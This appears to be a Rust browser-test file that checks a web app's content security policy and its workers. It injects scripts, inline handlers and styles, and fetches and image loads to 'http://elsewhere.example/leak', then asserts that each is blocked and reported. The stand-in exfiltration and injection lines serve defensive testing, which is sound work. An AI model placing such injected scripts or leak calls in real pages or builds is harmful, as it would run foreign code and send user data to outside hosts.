//! The content security policy: that it stops what it should. That the page itself keeps to it, every test looks (`Page::settled`).

use crate::support::browser::{DEADLINE, eventually};
use crate::support::build::Build;
use crate::support::page::{Page, dist, engine_file};
use crate::support::server::Server;

/// What is tried below, the first of it twice.
const DIRECTIVES: [&str; 5] = ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src"];

#[tokio::test]
async fn what_is_slipped_in_does_not_run() {
    let server = Server::start(dist()).await;
    let page = Page::open_explained(&server).await;
    let script = "
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.body.append(script);
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = true');
        button.setAttribute('style', 'color: red');
        document.body.append(button);
        button.click();
        const remote = document.createElement('script');
        remote.src = 'http://elsewhere.example/script.js';
        document.body.append(remote);
        const answers = [await fetch('http://elsewhere.example/leak').then(() => 'sent', () => 'stopped')];
        new Image().src = 'http://elsewhere.example/picture.png';
        await new Promise(done => setTimeout(done, 200));
        return [window.ran ?? 'did not run', getComputedStyle(button).color === 'rgb(255, 0, 0)', ...answers]";
    let answers = page.browser.run_async(script, vec![]).await;
    assert_eq!(answers, serde_json::json!(["did not run", false, "stopped"]));
    let violations = page.violations().await.join("\n");
    for directive in DIRECTIVES {
        assert!(violations.contains(directive), "no violation of {directive} among {violations}");
    }
    let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
    assert!(elsewhere.is_empty(), "{elsewhere:?}");
    let reports = reported(&server, 6).await;
    for directive in DIRECTIVES {
        assert!(reports.contains(directive), "no report of {directive} among {reports}");
    }
}

/// Waits until a server was told so many times that something was tried, and gives what it was told.
pub async fn reported(server: &Server, times: usize) -> String {
    let mut reports = Vec::new();
    eventually(DEADLINE, async || {
        reports.extend(server.reports());
        if reports.len() < times { Err(reports.clone()) } else { Ok(()) }
    })
    .await;
    reports.join("\n")
}

/// Page and engine keep to their policies in every test, which the server looks at in the end (`Server::drop`): that it would be told.
#[tokio::test]
async fn what_the_engine_tries_is_reported() {
    let build = Build::with_loader("fetch('http://elsewhere.example/leak').catch(() => {});");
    let server = Server::start(build.path()).await;
    let page = Page::open_explained(&server).await;
    let reports = reported(&server, 1).await;
    assert!(reports.contains("connect-src") && reports.contains("elsewhere"), "{reports}");
    assert!(!server.requests().iter().any(|request| request.contains("elsewhere")), "nor is it sent");
    assert!(page.violations().await.is_empty(), "the page itself tried nothing");
}

/// A worker has its own policy, not its page's: the service worker sends it.
#[tokio::test]
async fn a_worker_has_it_too() {
    const PROBE: &str = "postMessage(await fetch('http://elsewhere.example/leak').then(() => 'sent', () => 'stopped'))";
    let build = Build::copy();
    // The engine's folder is where workers come from.
    let probe = engine_file("worker-probe.js");
    std::fs::write(build.path().join(&probe), PROBE).unwrap();
    std::fs::write(build.path().join("neighbour.html"), "<title>A page beside it</title>").unwrap();
    let server = Server::start(build.path()).await;
    let page = Page::open_explained(&server).await;
    page.says("Ready to work offline").await;
    page.browser.goto(&format!("{}?engine=baseline", server.url())).await;
    page.settled().await;
    let script = "const worker = new Worker(arguments[0], {type: 'module'});
        return await new Promise(done => worker.onmessage = event => done(event.data))";
    assert_eq!(page.browser.run_async(script, vec![probe.into()]).await, "stopped");
    assert!(reported(&server, 1).await.contains("elsewhere"), "what the service worker sends says where to report to, here");
    assert_eq!(page.browser.run("return crossOriginIsolated", vec![]).await, true);
    let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
    assert!(elsewhere.is_empty(), "{elsewhere:?}");

    // Other pages of the same site are none of the page's business.
    page.browser.goto(&format!("{}neighbour.html", server.url())).await;
    assert_eq!(
        page.browser.run("return [crossOriginIsolated, document.title]", vec![]).await,
        serde_json::json!([false, "A page beside it"])
    );
}

/// Settings of the build name other hosts of models, and those only.
#[tokio::test]
async fn the_hosts_of_models_are_those_of_the_build() {
    let build = Build::copy();
    let policy = |build: &Build| {
        let page = std::fs::read_to_string(build.path().join("index.html")).unwrap();
        let (_, rest) = page.split_once("connect-src ").expect("a policy");
        rest.split_once(';').expect("more of it").0.to_owned()
    };
    assert_eq!(policy(&build), "'self' https://huggingface.co https://*.huggingface.co https://*.hf.co");
    build.finish(&[("WHYWORD_HUB", "https://hub.example"), ("WHYWORD_HUB_CDN", "https://cdn.example http://127.0.0.1:*")]);
    assert_eq!(policy(&build), "'self' https://hub.example https://cdn.example http://127.0.0.1:*");
    let server = Server::start(build.path()).await;
    let page = Page::open_explained(&server).await;
    let other = Server::start(dist()).await;
    let script = "return await fetch(arguments[0], {mode: 'no-cors'}).then(() => 'sent', () => 'stopped')";
    assert_eq!(page.browser.run_async(script, vec![other.url().into()]).await, "sent");
}
